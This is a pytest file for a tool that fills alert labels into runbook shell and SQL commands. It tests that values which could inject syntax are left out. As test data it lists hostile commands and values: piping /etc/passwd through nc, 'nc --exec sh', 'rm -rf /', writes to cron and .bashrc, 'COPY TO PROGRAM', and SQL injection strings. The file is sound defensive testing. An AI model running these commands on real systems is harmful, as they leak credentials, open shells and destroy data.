"""Tests of commands that a person who has just been woken copies into a shell."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from testbed.command_cases import SHELL, SQL, VALUES
from testbed.commands import Sandbox, compiled, faults
from tests.webhook.samples import PATIENT
from webhook.catalog.model import Command, Placeholder
from webhook.commands import fill

NEVER = "nothing is filled in here"


def test_placeholder_is_filled_from_its_label() -> None:
    """Every occurrence is filled from the label that the runbook names."""
    filled = fill(
        compiled("kubectl -n <ns> logs <pod-name> && echo <pod-name>", ns="namespace", pod_name="pod"),
        {"namespace": "shop", "pod": "web-1"},
    )
    assert (filled.text, filled.notes) == ("kubectl -n shop logs web-1 && echo web-1", ())


def test_nothing_happens_outside_of_the_argument(tmp_path: Path) -> None:
    """bash, a stand-in of ssh and SQLite run hundreds of templates with a hundred values; `make fuzz` runs them all."""
    assert len({*SHELL, *SQL}) > 200
    assert len({*VALUES}) > 100
    assert list(faults(Sandbox(tmp_path), every=7)) == []


def test_the_sandbox_notices_what_a_value_does(tmp_path: Path) -> None:
    """The sandbox sees a second shell, a file, a program and a remote machine; otherwise it would prove nothing."""
    sandbox = Sandbox(tmp_path)
    for text in ("echo $(reboot)", "echo a > pwned", "ssh db-1 'reboot'", "make 'A=$(reboot)'", "sh -c reboot"):
        effect = sandbox.run(text)
        assert b"reboot" in effect.called.replace(b"A=$(reboot)", b"") or effect.files == ("pwned",), text


@pytest.mark.parametrize(
    ("value", "why"),
    [
        (None, "is not on this alert."),
        ("", "is not on this alert."),
        (
            "a\nrm -rf /",
            "is “a rm -rf /” without its line breaks and control characters, with which it is not filled in.",
        ),
        ("a\x1b]0;x", "is “a]0;x” without its line breaks and control characters, with which it is not filled in."),
        ("a\u202eb", "is “ab” without its line breaks and control characters, with which it is not filled in."),
        ("x" * 257, f"is “{'x' * 79}…” and goes on: it is longer than 256 characters."),
        *(
            (
                value,
                f"is “{value}”, which is not a plain word: letters, digits, _, single dots and hyphens within.",
            )
            for value in ("--all", "a b", "$(id)", "..", "a--b", "a/b", "web-1;", "é", "*", "~")
        ),
    ],
)
def test_value_that_cannot_be_trusted_is_left_out_and_shown_beside(value: str | None, why: str) -> None:
    """The placeholder stays visible, and a note shows what the label holds."""
    filled = fill(compiled("kubectl delete pod <pod>", pod="pod"), {} if value is None else {"pod": value})
    assert filled.text == "kubectl delete pod <pod>"
    assert filled.notes == (f"<pod> is left for you to fill in: the label pod {why}",)


@pytest.mark.parametrize(
    "template",
    [
        "make restart SERVICE=<x>",
        "ansible-playbook site.yml -e host=<x>",
        "script -c <x>",
        "vim +<x>",
        "read <x>",
        "echo ${arr[<x>]}",
        "$<x> b",
        "scp -O host:<x> .",
        "<x>",
        "sudo <x>",
        "echo <x> | sh",
        "echo <x> > <x>",
        "x=<x>; $x",
        "echo $((<x> + 1))",
        "[[ <x> -eq 1 ]] || true",
        "cat <<!\n<x>\n!",
        "eval printf %s <x>",
        "sh -c 'ls <x>'",
        "# cat '<x>'",
        "systemctl start <x>",
        "kubectl delete <x> web",
        "kubectl get pods --kubeconfig <x>",
        "docker exec web <x>",
        "curl -d @<x> http://localhost",
        "curl -u me:secret http://<x>/",
        "./restart.sh <x>",
    ],
)
def test_no_value_is_filled_in_where_the_argument_is_more_than_data(template: str) -> None:
    """Even a harmless word is left out; the compiler says so, and why."""
    filled = fill(compiled(template, x="x"), {"x": "web-1"})
    assert filled.text == template
    assert NEVER in filled.notes[-1]
    assert "“web-1”" in filled.notes[-1]


UNSEEN = (
    "{ echo <x>; } | sh",
    "{ true; echo <x> | cat; } | sh",
    "for i in 1; do echo <x>; done | sh",
    "if true; then echo <x>; fi | sh",
    "if false; then :; else echo <x>; fi 2>&1 | sh",
    "until echo <x>; do :; done | sh",
    "while true; do echo <x>; break; done | xargs rm -rf",
    "for i in 1; do { echo <x>; } done | sort | sh",
    "! { echo <x>; } |\\\nsh",
    "[[ -n a ]] && { echo <x>; } |& sh",
    "{ echo <x>; } | while read a; do $a; done",
    "{ echo <x>; } | { sh; }",
    'ssh db-1 "{ echo <x>; } | sh"',
    "function f {\n echo <x>\n}\nf | sh",
    "function echo { sh -c $1; }; echo <x>",
    "f() { echo <x>; }; f | sh",
    "alias echo=sh; echo <x>",
    "coproc sh; echo <x>",
    "trap sh DEBUG; echo <x>",
    "echo <x> | sort -o j.sh; sh j.sh",
    "echo <x> | sort --output=j.sh; sh j.sh",
    "echo <x> | sort --compress-program=./a",
    "echo <x> | uniq - j.sh; sh j.sh",
    "echo <x> | tee j.sh",
    "nohup echo <x>; sh nohup.out",
    "echo $(kubectl get pod <x>) | sh",
)
"""Commands whose output another program gets, or may get."""
WRITTEN = (
    "echo <x> > j.sh; sh j.sh",
    'echo "<x>" >> j.sh; . ./j.sh',
    "> j.sh echo <x>; sh j.sh",
    "echo <x> >| j.sh",
    "echo <x> &> j.sh",
    "echo <x> &>> j.sh",
    "echo <x> >& j.sh",
    "echo <x> 1<> j.sh",
    "ls <x> 2> j.sh",
    "echo <x> > /proc/sysrq-trigger",
    "echo <x> > $F",
    "echo <x> >&3",
    "echo <x> >&$fd",
    "echo <x> | cat | sort | head > /etc/cron.d/x",
    "{ echo <x>; } > j.sh",
    "for i in 1; do echo <x>; done >> j.sh",
    "exec 3>j; echo <x> >&3; sh j",
    "exec > j; echo <x>",
    "command exec > j; echo <x>",
    "\\exec > j; echo <x>",
    "$E > j; echo <x>",
    "<y> > j; echo <x>",
    "echo <x>; exec 2> j",
    "kubectl exec web -- cat <x> > ~/.bashrc",
    "ssh db-1 'echo <x> > j.sh'",
    "curl -o j.sh http://localhost/<x>",
    "curl -oj.sh http://localhost/<x>",
)
"""Commands whose output is written to a file."""
SENT = (
    'curl -H "Authorization: Bearer abc" <x>:9090/-/reload',
    'curl <x>:9090/-/reload -H "X-Auth: s3cr3t"',
    "curl http://<x>:9200/_cat/health -u elastic:changeme",
    "curl http://<x>/ -n",
    "curl http://<x>/ --netrc-file n",
    "curl http://<x>/ --oauth2-bearer abc",
    "curl http://<x>/ -E cert.pem",
    "curl http://<x>/ -b session=1",
    "curl http://<x>/ -d pin=1234",
    "curl http://<x>/?key=abc",
    "curl http://user:pw@<x>/",
    "curl http://<x>/T01234567/0123456789abcdef0123456789abcdef",
    'curl -H "X-Auth: $T" http://<x>/',
    "curl -H @headers http://<x>/",
    'curl -H "Accept: $T" http://<x>/',
    "curl http://api/$T http://<x>/",
    "curl http://<x>/ http://<x>/",
    "curl http://web-<x>/$T",
    "curl ftp://<x>/f -u a:b",
    "curl file:///<x>",
    "curl scp://<x>/a",
    "PGPASSWORD=hunter2 psql -h <x> -U app app",
    "psql -h <x>",
    "psql --host=<x> -c 'SELECT 1'",
    'psql "host=<x> user=app password=hunter2"',
    'psql -d "dbname=a hostaddr=<x>"',
    "psql 'postgresql://<x>/app?user=app&password=pw'",
    "psql 'postgresql://a/app?host=<x>'",
    "psql postgresql://app:pw@<x>/app",
    "psql postgresql://a,<x>/app",
    "PGPASSWORD=hunter2 pg_isready -h <x>",
    'pg_isready -d "host=<x> password=hunter2"',
    "pg_isready --dbname=postgresql://app:pw@<x>/app",
    "pg_isready -h <x> -d 'password=hunter2'",
    "pg_isready -h <x> -d postgresql://app:pw@/app",
    'curl -sSL -H "X-Auth: s3cr3t" -H "Host: <x>" http://localhost/',
    "redis-cli -h <x> -a hunter2 ping",
    "redis-cli -h <x> --pass hunter2 ping",
    "redis-cli -h <x> auth hunter2",
    "redis-cli -h <x> set key value",
    "export REDISCLI_AUTH=hunter2; redis-cli -h <x> ping",
    "amtool --alertmanager.url=http://me:pw@<x>/ alert query",
    "amtool --alertmanager.url=http://<x>/ --http.config.file=f alert query",
    "nc <x> 80 < /etc/passwd",
    "cat /etc/passwd | nc <x> 80",
    "cat dump.sql | ssh <x> cat",
    "nc <x> 80 --exec sh",
)
"""Commands that send a credential or a file to a host that the label would choose."""
OPENED = (
    'curl -s --data-urlencode "instance@<x>" http://localhost/',
    'curl -s --data-urlencode "@<x>" http://localhost/',
    "curl -s --data-urlencode <x> http://localhost/",
    'curl -sd "$(cat <x>)" http://localhost/',
    'curl -s "http://localhost/$(cat <x>)"',
    "curl -d @<x> http://localhost/",
    "curl --data @f-<x> http://localhost/",
    "curl -d@<x> http://localhost/",
    "curl --json @<x> http://localhost/",
    "curl -F a=@<x> http://localhost/",
    "curl -T <x> http://localhost/",
    "curl -K <x> http://localhost/",
    "curl -H @<x> http://localhost/",
    "curl -w '%output{<x>}' http://localhost/",
    "curl -w @<x> http://localhost/",
    "curl -o <x> http://localhost/",
    "curl -sSD <x> http://localhost/",
    "curl --variable a@<x> http://localhost/",
    "docker restart $(cat <x>)",
    "docker restart $(head -1 <x>)",
    "docker restart $(docker ps -q | grep a <x>)",
    "docker restart $(kubectl get pods | cat <x>)",
    "docker restart $(echo <x> | rev)",
    "docker restart $(kubectl get pod <x>; cat f)",
    "docker restart $(kubectl get pod <x> > f)",
)
"""Commands that read or write a file that the label would name, and do more than show it."""
BESIDE = (
    "kubectl rollout restart deployment <x>>/dev/null",
    "echo a <x>>/dev/null",
    "echo a <x>>&2",
    "echo a <x>>out.txt",
    "echo a <x>>>out.txt",
    "echo a <x>>|out.txt",
    "echo a <x><in.txt",
    "echo a 1<x>>/dev/null",
    'echo a "<x>">/dev/null',
    "echo a b<x>>/dev/null 2>&1",
    'echo "ready!?<x>"',
    'echo "ready!-<x>"',
    "echo !<x>",
    'echo "hi!" <x>',
    "echo !!:<x>",
    "echo '!ls' <x>",
    'echo "!?a b" now <x>',
    "kubectl debug -it web --image=<x>/tools",
    "kubectl debug -it web --image <x>",
    "docker exec -u <x> web id",
    "docker exec --user=<x> web id",
    "iptables -A INPUT -s 10.0.0.1 -j <x>",
    "iptables -A <x> -s 10.0.0.1",
    "ip addr <x> dev eth0",
    "ip link <x> eth0 up",
    "ip route <x>",
    "ip <x>",
    "ps <x>",
    "top <x>",
    "psql -d app -c 'SELECT <x>'",
)
"""Commands in which a value would be a redirection's number, a word of the history, code, a user or a verb."""


@pytest.mark.parametrize("template", [*UNSEEN, *WRITTEN])
def test_nothing_is_filled_in_where_more_than_a_reader_gets_the_output(template: str) -> None:
    """A file may be run later and a program may run it now, behind the word, its brackets, its loop or its function."""
    assert_is_left(template)


@pytest.mark.parametrize("template", [*SENT, *OPENED])
def test_a_label_chooses_neither_who_gets_a_secret_nor_which_file_is_sent(template: str) -> None:
    """Any unknown word of the command may be a credential; with one such word nothing is filled in."""
    assert_is_left(template)


@pytest.mark.parametrize("template", BESIDE)
def test_a_value_stays_an_argument_and_chooses_no_verb(template: str) -> None:
    """`2>` is a redirection without an argument, and `ip addr flush` changes something."""
    assert_is_left(template)


def assert_is_left(template: str) -> None:
    """Assert that no value is filled in, and that the reader learns why."""
    for value in ("id", "2", "web-1", "10.0.0.1:9100"):
        filled = fill(compiled(template, x="x", y=None), {"x": value})
        assert filled.text == template
        assert any(NEVER in note for note in filled.notes)


@pytest.mark.parametrize(
    "template",
    [
        "echo <x> 2>&1 | sort -rn -k 2 | uniq -c | head -5",
        "kubectl logs <x> 2>/dev/null | grep -v a",
        "kubectl logs <x> > /dev/null",
        "for i in 1 2; do kubectl get pod <x>; done | sort | uniq -c",
        "if true; then echo <x>; fi",
        "while ! kubectl get pod <x>; do sleep 1; done",
        "kubectl get pod <x>\nkubectl get events > events.txt",
        "docker restart $(docker-compose ps -q <x>)",
        "docker restart $(kubectl get pods -o name | grep <x> | head -1)",
        "echo ruok | nc <x> 2181",
        "curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' http://<x>:9090/-/ready",
        'curl -H "Accept: application/json" <x>:9200/_cat/health',
        "curl -sI https://web-<x>.example.com/",
        "curl -u me:$P 'https://api.example.com/a?service=<x>'",
        'curl -H "Authorization: Bearer $T" -d \'{"name": "<x>"}\' $API/silences',
        "curl -G http://localhost/ --data-urlencode 'query=up{instance=\"<x>\"}'",
        'psql -h db -d <x> -c "SELECT 1"',
        'psql "host=db port=5432 dbname=<x>"',
        "psql postgresql://app@db:5432/<x>",
        "redis-cli -h <x> info memory",
        "pg_isready -h <x> -p 5432",
        'curl -sS -H "Host: <x>" http://localhost/',
        "amtool --alertmanager.url=http://<x> alert query",
        "ip addr show dev <x>",
        "echo 'a != b' <x>",
    ],
)
def test_what_is_known_to_be_a_question_is_still_filled_in(template: str) -> None:
    """The output is only shown, the host gets no secret, or the value is part of a question to a fixed host."""
    filled = fill(compiled(template, x="x"), {"x": "web1"})
    assert (filled.text, filled.notes) == (template.replace("<x>", "web1"), ())


@pytest.mark.parametrize(
    "template",
    [
        "DO $b$ BEGIN NULL; SELECT 1 FROM t WHERE a = '<x>'; END $b$",
        "DO $$ BEGIN NULL; SELECT 1 FROM t WHERE a = '<x>'; END $$",
        "SELECT $é$ ; SELECT 1 FROM t WHERE a = '<x>' $é$",
        "SELECT $a1$ ; SELECT 1 FROM t WHERE a = '<x>' $a1$",
        "SELECT $<y>$ ; SELECT 1 FROM t WHERE a = '<x>' $<y>$",
        "SELECT $a$ ; SELECT 1 FROM t WHERE a = <x> $a$",
        "CREATE FUNCTION f() RETURNS int AS $f$ SELECT 1; SELECT 1 FROM t WHERE a = '<x>' $f$ LANGUAGE sql",
        "SELECT 1 FROM t WHERE a = '<x>' \\gexec",
        "SELECT 1 FROM t WHERE a = '<x>' \\g |sh",
        "SELECT a FROM t WHERE a = '<x>' INTO OUTFILE '/tmp/a'",
        "COPY (SELECT a FROM t WHERE a = '<x>') TO PROGRAM 'sh'",
        "PREPARE p FROM 'a'; SELECT 1 FROM t WHERE a = '<x>'",
        "EXECUTE 'a'; SELECT 1 FROM t WHERE a = '<x>'",
        "SELECT q'!it's!'; SELECT 1 FROM t WHERE a = '<x>'",
        "SELECT [it's] FROM t WHERE a = '<x>'",
        "UPDATE a JOIN b ON a.i = b.i SET a.role = '<x>'",
        "UPDATE a SET b = (SELECT c FROM d WHERE e = 1), role = '<x>'",
        "UPDATE a SET note = 'WHERE', role = '<x>'",
        "UPDATE a SET note = \" WHERE \", role = '<x>'",
        "SELECT a FROM t WHERE b = 1 ORDER BY c = '<x>'",
        "SELECT a FROM t WHERE b = @v := '<x>'",
        "WITH a AS (SELECT 1 WHERE 1 = 1) UPDATE b SET role = '<x>'",
    ],
)
def test_text_that_a_database_may_run_or_keep_takes_no_value(template: str) -> None:
    """A tag between dollar signs quotes as `$$` does; a clause behind the condition ends it."""
    for value in ("$b$; DROP TABLE t; --", "admin", "1"):
        filled = fill(compiled(template, "sql", x="x", y=None), {"x": value})
        assert filled.text == template
        assert any(NEVER in note for note in filled.notes)


@pytest.mark.parametrize(
    "template",
    [
        "UPDATE a JOIN b ON a.i = b.i SET a.c = 1 WHERE a.role = '<x>'",
        "SELECT a FROM t WHERE b IN (SELECT c FROM d WHERE e = '<x>')",
        "SELECT a FROM t WHERE (b = 1 OR (c = '<x>'))",
        "SELECT a FROM t JOIN u ON t.i = u.i AND u.name = '<x>'",
        "SELECT a FROM t WHERE b IN (SELECT c FROM d ORDER BY e) AND f = '<x>'",
        "SELECT a FROM t WHERE b IN ('x', '<x>') ORDER BY c",
        "WITH a AS (SELECT b FROM c WHERE d = '<x>') SELECT 1",
        "SELECT a FROM t GROUP BY b HAVING c = '<x>'",
        "DELETE FROM t WHERE note = ' SET ' AND name = '<x>'",
        "EXPLAIN SELECT a FROM t WHERE name <> '<x>' LIMIT 5",
    ],
)
def test_text_that_a_condition_compares_takes_a_value(template: str) -> None:
    """The condition may stand below a join, in brackets, or in a nested statement."""
    assert fill(compiled(template, "sql", x="x"), {"x": "it's"}).text == template.replace("<x>", "it''s")


@pytest.mark.parametrize(
    ("template", "value", "text"),
    [
        ("df -h <x>", "/var/lib/docker", "df -h /var/lib/docker"),
        ("df -h <x>", "/", "df -h /"),
        ("df -h <x>", "/var/../etc", None),
        ("rm -rf /var/lib/app/<x>", "tenant-1", "rm -rf /var/lib/app/tenant-1"),
        ("rm -rf /var/lib/app/<x>", "..", None),
        ("rm -rf /var/lib/app/<x>", "a/b", None),
        ("curl http://<x>/metrics", "10.0.0.1:9100", "curl http://10.0.0.1:9100/metrics"),
        ("curl http://<x>/metrics", "10.0.0.1:9100/x?", None),
        ("curl -sS <x>", "https://shop.example.com/health", "curl -sS https://shop.example.com/health"),
        ("curl -sS <x>", "file:///etc/passwd", None),
        ("grep -F '<x>' log", "10.0.0.1", "grep -F '10.0.0.1' log"),
        ("docker inspect $(docker-compose ps -q <x>)", "api", "docker inspect $(docker-compose ps -q api)"),
        ("ssh db-1 systemctl status <x>", "web", "ssh db-1 systemctl status web"),
        ("kubectl exec <x> -- ls", "web-1", "kubectl exec web-1 -- ls"),
    ],
)
def test_a_place_takes_what_its_program_reads_as_data(template: str, value: str, text: str | None) -> None:
    """If every value were left out, commands would be of little use."""
    assert fill(compiled(template, x="x"), {"x": value}).text == (template if text is None else text)


@pytest.mark.parametrize(
    ("language", "template", "value", "text"),
    [
        ("sql", "SELECT * FROM a WHERE id = <x>", "12", "SELECT * FROM a WHERE id = 12"),
        ("sql", "SELECT * FROM a WHERE id = <x>", "id", None),
        ("sql", "SELECT * FROM a WHERE id = <x>", "1--", None),
        ("sql", "SELECT * FROM a WHERE d = '<x>'", "it's", "SELECT * FROM a WHERE d = 'it''s'"),
        ("sql", "SELECT * FROM a WHERE d = '<x>'", "a\\", None),
        ("sql", "SELECT * FROM a WHERE d = '<x>'", "\u02bc", None),
        ("sql", "SELECT pg_read_file('<x>')", "a", None),
        ("sql", "SELECT * FROM <x>", "a", None),
        ("promql", 'up{instance="<x>"}', "10.0.0.1:9100", 'up{instance="10.0.0.1:9100"}'),
        ("promql", 'up{instance="<x>"}', 'a"} or up{a="', None),
        ("promql", 'up{instance=~"<x>.*"}', "web-1", 'up{instance=~"web-1.*"}'),
        ("promql", 'up{instance=~"<x>.*"}', "a|b", None),
        ("promql", "up{<x>='a'}", "a", None),
        ("yaml", "name: <x>", "a", None),
        ("python", "print('<x>')", "a", None),
    ],
)
def test_other_languages_take_what_their_grammar_keeps_apart(
    language: str, template: str, value: str, text: str | None
) -> None:
    """Shell quoting means nothing in SQL: a value is digits, or text with doubled quotes that a condition compares."""
    assert fill(compiled(template, language, x="x"), {"x": value}).text == (template if text is None else text)


def test_placeholder_without_a_label_is_the_reader_s() -> None:
    """The runbook says that a person must fill it in, so no note is needed."""
    filled = fill(compiled("git revert <commit>", commit=None), {"commit": "abc"})
    assert (filled.text, filled.notes) == ("git revert <commit>", ())


def test_filled_value_is_not_searched_for_placeholders_again() -> None:
    """The value of a label cannot insert another label."""
    filled = fill(
        compiled("SELECT a FROM b WHERE c = '<a>' AND d = '<b>'", "sql", a="a", b="b"), {"a": "<b>", "b": "x"}
    )
    assert filled.text == "SELECT a FROM b WHERE c = '<b>' AND d = 'x'"


@pytest.mark.parametrize("labels", [{"b": "web-1"}, {"a": "a b", "b": "web-1"}])
def test_a_word_behind_a_placeholder_that_stays_is_left_too(labels: dict[str, str]) -> None:
    """`echo <a> web-1` would write a file of that name."""
    filled = fill(compiled("echo <a> <b>", a="a", b="b"), labels)
    assert filled.text == "echo <a> <b>"
    assert filled.notes[-1].endswith("“web-1”, and follows another placeholder that is left to you.")


def test_a_catalogue_that_does_not_say_what_a_place_takes_fills_nothing() -> None:
    """An older compiler wrote the catalogue, or the text is not at the place that the catalogue names."""
    command = Command(language="bash", text="echo <x>", placeholders=(Placeholder(text="<x>", label="x"),))
    filled = fill(command, {"x": "web-1"})
    assert filled.text == "echo <x>"
    assert filled.notes == (
        "<x> is left for you to fill in: the label x is “web-1”, and the catalogue does not say what may stand here.",
    )


@PATIENT
@given(st.text(min_size=1, max_size=40))
def test_shell_sees_exactly_the_value_or_the_placeholder(value: str) -> None:
    """A label never becomes syntax."""
    words = shlex.split(fill(compiled("echo %s <x>", x="x"), {"x": value}).text)
    assert words in (["echo", "%s", value], ["echo", "%s", "<x>"])


@PATIENT
@given(st.text(max_size=60), st.text(max_size=60), st.sampled_from(["bash", "sql", "promql", "yaml", ""]))
def test_any_command_is_read_to_its_end(before: str, behind: str, language: str) -> None:
    """Whatever stands around a placeholder, each of its places is known, or the command stays as it is."""
    text = f"{before} <x> {behind}"
    filled = fill(compiled(text, language, x="x"), {"x": "web-1"})
    assert filled.text.replace("web-1", "<x>") == text.replace("web-1", "<x>")
